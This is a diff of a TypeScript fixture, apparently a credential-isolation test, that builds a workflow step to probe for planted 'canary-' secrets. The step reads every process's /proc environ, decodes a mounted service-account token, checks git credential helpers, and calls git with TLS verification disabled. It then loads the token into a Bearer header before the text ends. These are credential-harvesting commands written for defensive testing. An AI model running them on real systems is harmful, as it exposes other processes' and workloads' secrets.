@@ -1,7 +1,7 @@
 /** Workflows that look around from inside a step and commit what they saw. */
 
 /** Every place where an agent could hold a credential; `canary-` starts each planted value. */
-export const LOOK_AROUND = `name: look-around
+export const lookAround = (origin: string): string => `name: look-around
 commands:
   - name: look for credentials
     shell: |
@@ -12,7 +12,7 @@ commands:
         echo "environ=$(cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c 'canary-[0-9a-f]')"
         echo "askpass=\${GIT_ASKPASS:-none} token-file=\${PRODIGY_GIT_TOKEN_FILE:-none}"
         echo "audience=$(cut -d. -f2 /var/run/secrets/prodigy.io/token | tr '_-' '/+' | base64 -d 2>/dev/null | grep -o '"aud":\\[[^]]*\\]')"
-        echo "origin=$(GIT_TERMINAL_PROMPT=0 git ls-remote https://git.example.com/demo/project.git 2>/dev/null | wc -l)"
+        echo "origin=$(GIT_TERMINAL_PROMPT=0 git -c http.sslVerify=false ls-remote ${origin} 2>/dev/null | wc -l)"
         node -e '
           const https = require("node:https"), fs = require("node:fs");
           const headers = { authorization: "Bearer " + fs.readFileSync("/var/run/secrets/prodigy.io/token", "utf8") };
